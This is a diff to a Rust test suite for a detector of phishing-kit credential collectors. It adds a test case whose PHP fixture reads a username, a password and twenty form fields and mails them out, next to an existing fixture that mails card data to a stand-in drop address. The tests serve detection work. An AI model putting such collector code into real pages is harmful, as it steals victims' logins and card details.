@@ -502,6 +502,14 @@ fn collectors_that_carry_fields_across_pages_or_align_labels_are_found() {
     let brackets = "<?php $m = \"[Card Number] = \" . $_SESSION['n1'] . \"<br>[Expiry] = \" . $_SESSION['n2']; \
                     mail('drop@example.net', 'x', $m);";
     assert_eq!(found(brackets), [Why::CredentialCollector]);
+    // A whole message in one literal, labelled in the victims' language.
+    let fields: String = (1..=20).map(|k| format!("<b>Campo {k}:</b> $c{k}<br />\\n")).collect();
+    let long = format!(
+        "<?php $u = $_POST['usr']; $s = $_POST['pwd']; {} \
+         $m = \"{fields}<b>Usuario:</b> $u<br />\\n<b>Senha:</b> $s<br />\\n\"; mail($to, 'x', $m);",
+        (1..=20).map(|k| format!("$c{k} = $_POST['c{k}'];")).collect::<String>()
+    );
+    assert_eq!(found(&long), [Why::CredentialCollector]);
 }
 
 #[test]
